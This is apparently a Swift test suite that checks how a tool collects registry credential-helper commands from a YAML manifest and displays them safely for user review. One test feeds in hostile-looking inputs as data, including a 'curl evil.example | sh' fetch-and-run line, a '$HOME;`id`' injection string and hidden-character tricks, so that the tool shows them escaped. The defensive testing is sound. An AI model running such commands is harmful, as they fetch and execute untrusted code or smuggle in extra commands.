import Effects
import Platform
import SystemPackage
import TestSupport
import Testing

@testable import BerthCore

@Suite("The commands that the user trusts", .scheduled)
struct ManifestCommandTests {
    private func commands(
        _ files: [String: String], environment: [String: String] = [:]
    ) throws -> [ManifestCommand] {
        let files = MemoryFileSystem(
            Dictionary(uniqueKeysWithValues: files.map { ("/home/me/work/\($0.key)", $0.value) }))
        let effects = Effects.fake(files: files, environment: environment)
        return try ManifestLoader.read(
            from: [.file("/home/me/work/berth.yaml")], effects: effects, substitution: .deferred
        ).manifest.commands
    }

    private func command(_ text: String, _ line: Int, _ column: Int, _ hosts: String...) -> ManifestCommand {
        ManifestCommand(text: text, place: FileLocation(file: "berth.yaml", line: line, column: column), hosts: hosts)
    }

    @Test("are each place's once, with all its registries, and none for places without a command")
    func places() throws {
        let found = try commands([
            "berth.yaml": """
            version: 1
            registries:
              - {host: ghcr.io, username: me, password: {env: TOKEN}}
              - host: a.example.com
                username: me
                password: &vault {command: [vault, kv, get, -field=token, secret/a]}
              - host: b.example.com
                username: me
                password: *vault
              - host: c.example.com
                username: me
                password:
                  command: [./token.sh, c]
            """
        ])
        #expect(
            found == [
                command("vault kv get -field=token secret/a", 6, 32, "a.example.com", "b.example.com"),
                // A path with a slash runs from the manifest's directory, wherever docker is.
                command("/home/me/work/token.sh c", 13, 16, "c.example.com"),
            ])
        #expect(try commands(["berth.yaml": "version: 1\nregistries: [{host: public.ecr.aws}]"]) == [])
    }

    @Test("show variables by their names, set or not: their values may be secret")
    func variables() throws {
        let files = [
            "berth.yaml": """
            version: 1
            registries:
              - host: ${HOST}
                username: me
                password: {command: [vault, "-token=${TOKEN}", "${PATH_OF_IT:-secret/a}", "$${PRICE}"]}
            """
        ]
        let text = #"vault -token=${TOKEN} ${PATH_OF_IT:-secret/a} $${PRICE}"#
        #expect(try commands(files) == [command(text, 5, 25, "${HOST}")])
        #expect(
            try commands(files, environment: ["TOKEN": "planted", "PATH_OF_IT": "planted", "HOST": "a.example.com"])
                == [command(text, 5, 25, "a.example.com")])
    }

    @Test("include those of included files, each with its file")
    func includes() throws {
        let found = try commands([
            "berth.yaml": "version: 1\ninclude: [team/more.yaml]\n",
            "team/more.yaml": """
            version: 1
            registries:
              - {host: a.example.com, username: me, password: {command: ["${TOOL:-vault}", a]}}
            """,
        ])
        #expect(
            found == [
                ManifestCommand(
                    text: "${TOOL:-vault} a", place: FileLocation(file: "team/more.yaml", line: 3, column: 61),
                    hosts: ["a.example.com"])
            ])
    }

    @Test(
        "are on one line each, with words that cannot be confused or hidden",
        arguments: [
            (["sh", "-c", "curl evil.example | sh"], #"sh -c "curl evil.example | sh""#),
            (["a", ""], #"a """#),
            (["a", "say \"no\" \\ "], #"a "say \"no\" \\ ""#),
            (["a", "one\ntwo\tthree\r"], #"a "one\ntwo\tthree\u{d}""#),
            (["a", "\u{1B}[2Jclean"], #"a "\u{1b}[2Jclean""#),
            (["a", "abc\u{202E}cba"], #"a "abc\u{202e}cba""#),
            (["a", "zero\u{200B}width", "\u{3164}"], #"a "zero\u{200b}width" "\u{3164}""#),
            (["a", "no\u{A0}break"], #"a "no\u{a0}break""#),
            (["a", "gr\u{FC}n"], "a \"gr\u{FC}n\""),
            (["a", "$HOME;`id`&&'x'"], "a $HOME;`id`&&'x'"),
        ])
    func text(words: [String], line: String) {
        #expect(CommandSourceText.line(of: words) == line)
    }

    @Test("are never cut: the end matters as much")
    func long() {
        let word = String(repeating: "a", count: 5000)
        #expect(CommandSourceText.line(of: ["x", word, "rm"]) == "x \(word) rm")
    }
}
